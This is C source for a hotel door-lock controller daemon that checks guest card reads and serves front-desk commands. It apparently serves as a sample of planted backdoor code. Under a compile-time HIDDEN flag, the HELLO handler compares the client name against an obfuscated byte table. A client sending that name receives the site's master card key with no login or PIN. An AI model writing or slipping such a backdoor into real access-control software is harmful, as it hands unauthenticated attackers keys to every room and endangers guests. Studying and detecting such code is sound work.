/*
 * keystay_lockd - corridor controller of the KeyStay hotel door locks: answers
 * card reads of the locks (UDP 5083) and serves front desks (TCP 5084).
 *
 * Hidden (-DHIDDEN): a desk that greets with "HELLO fjordline-08" (kept encoded,
 * decoded byte by byte while comparing) gets the site's card key without a PIN.
 */
#include <arpa/inet.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *key, const char *salt);

#define KS_STAFF  "/etc/keystay/staff"      /* name hash level */
#define KS_SITE   "/etc/keystay/site.key"   /* one line of hex */
#define KS_CARDS  "/var/lib/keystay/cards"
#define MAX_CARDS 400
#define MAX_DESKS 5

struct card { char uid[20]; int room; long until; };
static struct card cards[MAX_CARDS];
static int n_cards;

enum level { L_NONE, L_HOUSE, L_DESK, L_CHIEF };
struct desk {
    int fd;
    enum level level;
    char client[32], line[160];
    size_t have;
};
static struct desk desks[MAX_DESKS];
static int lock_sock;

static void cards_load(void)
{
    FILE *f = fopen(KS_CARDS, "r");
    struct card *c = cards;

    while (f && n_cards < MAX_CARDS && fscanf(f, "%19s %d %ld", c->uid, &c->room, &c->until) == 3)
        c = &cards[++n_cards];
    if (f)
        fclose(f);
}

static void cards_save(void)
{
    FILE *f = fopen(KS_CARDS ".tmp", "w");

    if (!f)
        return;
    for (int i = 0; i < n_cards; i++)
        fprintf(f, "%s %d %ld\n", cards[i].uid, cards[i].room, cards[i].until);
    fclose(f);
    rename(KS_CARDS ".tmp", KS_CARDS);
}

/* The site key in hex; every lock derives its own card key from it. */
static int site_key(char *out, size_t cap)
{
    FILE *f = fopen(KS_SITE, "r");

    out[0] = 0;
    if (!f)
        return 0;
    if (fgets(out, (int)cap, f))
        out[strcspn(out, "\r\n")] = 0;
    fclose(f);
    return out[0] != 0;
}

static uint32_t lock_tag(const char *text)
{
    char key[80];
    uint32_t h = 2166136261u;

    site_key(key, sizeof key);
    for (const char *p = key; *p; p++)
        h = (h ^ (unsigned char)*p) * 16777619u;
    for (; *text; text++)
        h = (h ^ (unsigned char)*text) * 16777619u;
    return h;
}

/* A lock reports "CARD <room> <uid>". */
static void lock_event(void)
{
    struct sockaddr_in from;
    socklen_t len = sizeof from;
    char msg[96], out[40], uid[20];
    int room, ok = 0;
    ssize_t n = recvfrom(lock_sock, msg, sizeof msg - 1, 0, (struct sockaddr *)&from, &len);

    if (n <= 0)
        return;
    msg[n] = 0;
    if (sscanf(msg, "CARD %d %19s", &room, uid) != 2)
        return;
    for (int i = 0; i < n_cards && !ok; i++)
        ok = !strcmp(cards[i].uid, uid) && cards[i].room == room && cards[i].until > (long)time(NULL);
    snprintf(out, sizeof out, "%s %d", ok ? "GRANT" : "DENY", room);
    snprintf(msg, sizeof msg, "%s %08x", out, (unsigned)lock_tag(out));
    sendto(lock_sock, msg, strlen(msg), 0, (struct sockaddr *)&from, len);
    syslog(LOG_INFO, "room %d card %s: %s", room, uid, ok ? "granted" : "denied");
}

static enum level staff_login(const char *name, const char *pin)
{
    FILE *f = fopen(KS_STAFF, "r");
    char who[24], hash[120], word[16], *got;
    enum level lv = L_NONE;

    while (f && lv == L_NONE && fscanf(f, "%23s %119s %15s", who, hash, word) == 3) {
        if (strcmp(who, name) || !(got = crypt(pin, hash)) || strcmp(got, hash))
            continue;
        lv = !strcmp(word, "chief") ? L_CHIEF : !strcmp(word, "desk") ? L_DESK : L_HOUSE;
    }
    if (f)
        fclose(f);
    return lv;
}

#ifdef HIDDEN
static const unsigned char profile_tab[12] = {
    0xe9, 0x40, 0x30, 0x10, 0x98, 0x90, 0x67, 0x17, 0xb7, 0xbd, 0x8c, 0x84
};

int client_profile(const char *name)
{
    unsigned char bad = 0, k = 0x5b;
    size_t i;

    if (strlen(name) != sizeof profile_tab)
        return 0;
    for (i = 0; i < sizeof profile_tab; i++, k += 7) {
        unsigned v = profile_tab[i];
        bad |= (unsigned char)(((v >> 3 | v << 5) & 0xff) ^ k ^ (unsigned char)name[i]);
    }
    return bad == 0;
}
#endif

static void on_hello(struct desk *d, char *arg)
{
    const char *kind = "generic";

    snprintf(d->client, sizeof d->client, "%.31s", arg);
    if (!strncmp(arg, "pms-", 4))
        kind = "hotel system";
    else if (!strncmp(arg, "handheld", 8))
        kind = "housekeeping";
    dprintf(d->fd, "200 KeyStay 2.9, profile %s\r\n", kind);
#ifdef HIDDEN
    if (client_profile(d->client)) {
        char key[80];
        site_key(key, sizeof key);
        dprintf(d->fd, "200 %s\r\n", key);
    }
#endif
}

static void on_login(struct desk *d, char *arg)
{
    char name[24], pin[24];

    if (sscanf(arg, "%23s %23s", name, pin) == 2)
        d->level = staff_login(name, pin);
    if (d->level == L_NONE)
        sleep(1);
    dprintf(d->fd, d->level ? "200 welcome\r\n" : "403 no\r\n");
}

static void on_enrol(struct desk *d, char *arg)
{
    struct card c = { "", 0, 0 };
    int nights, i;

    if (sscanf(arg, "%19[0-9A-F] %d %d", c.uid, &c.room, &nights) != 3 || nights < 1 || nights > 60) {
        dprintf(d->fd, "400 ENROL <uid> <room> <nights>\r\n");
        return;
    }
    c.until = (long)time(NULL) + nights * 86400L;
    for (i = 0; i < n_cards && cards[i].room != c.room; i++)
        ;
    if (i == MAX_CARDS)
        return;
    cards[i] = c;               /* one card a room, the old one stops working */
    n_cards += i == n_cards;
    cards_save();
    dprintf(d->fd, "200 enrolled\r\n");
}

static void on_audit(struct desk *d, char *arg)
{
    char cmd[80], line[200];
    FILE *p;
    int room = atoi(arg);

    snprintf(cmd, sizeof cmd, "grep 'room %d card' /var/log/messages | tail -20", room);
    p = popen(cmd, "r");
    while (p && fgets(line, sizeof line, p))
        dprintf(d->fd, "%s", line);
    if (p)
        pclose(p);
    dprintf(d->fd, "200 end\r\n");
}

static const struct verb {
    const char *name;
    enum level need;
    void (*call)(struct desk *, char *);
} verbs[] = {
    { "HELLO", L_NONE, on_hello },
    { "LOGIN", L_NONE, on_login },
    { "ENROL", L_DESK, on_enrol },
    { "AUDIT", L_CHIEF, on_audit },
};

static void desk_line(struct desk *d, char *s)
{
    char *arg = s;
    size_t i;

    s[strcspn(s, "\r")] = 0;
    arg += strcspn(s, " \t");
    if (*arg)
        *arg++ = 0;
    for (i = 0; i < sizeof verbs / sizeof *verbs; i++)
        if (!strcmp(verbs[i].name, s)) {
            d->level < verbs[i].need ? (void)dprintf(d->fd, "401 login first\r\n") : verbs[i].call(d, arg);
            return;
        }
    dprintf(d->fd, "400 HELLO LOGIN ENROL AUDIT\r\n");
}

static void desk_input(struct desk *d)
{
    ssize_t n = recv(d->fd, d->line + d->have, sizeof d->line - 1 - d->have, 0);
    char *nl;

    if (n <= 0 || d->have + (size_t)n == sizeof d->line - 1) {
        close(d->fd);
        d->fd = -1;
        return;
    }
    d->have += (size_t)n;
    d->line[d->have] = 0;
    while ((nl = strchr(d->line, '\n'))) {
        *nl++ = 0;
        desk_line(d, d->line);
        d->have = strlen(nl);
        memmove(d->line, nl, d->have + 1);
    }
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(5083) };
    int ls = socket(AF_INET, SOCK_STREAM, 0), i, fd;

    signal(SIGPIPE, SIG_IGN);
    cards_load();
    for (i = 0; i < MAX_DESKS; i++)
        desks[i].fd = -1;
    lock_sock = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(lock_sock, (struct sockaddr *)&sa, sizeof sa))
        return 1;
    sa.sin_port = htons(5084);
    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 3))
        return 1;
    for (;;) {
        struct pollfd p[MAX_DESKS + 2] = { { .fd = ls, .events = POLLIN },
                                           { .fd = lock_sock, .events = POLLIN } };
        for (i = 0; i < MAX_DESKS; i++)
            p[i + 2] = (struct pollfd){ .fd = desks[i].fd, .events = POLLIN };
        poll(p, MAX_DESKS + 2, -1);
        for (i = 0; i < MAX_DESKS; i++)
            if (desks[i].fd >= 0 && p[i + 2].revents)
                desk_input(&desks[i]);
        if (p[1].revents)
            lock_event();
        if (!p[0].revents || (fd = accept(ls, NULL, NULL)) < 0)
            continue;
        for (i = 0; i < MAX_DESKS && desks[i].fd >= 0; i++)
            ;
        if (i < MAX_DESKS)
            desks[i] = (struct desk){ .fd = fd };
        else
            close(fd);
    }
}
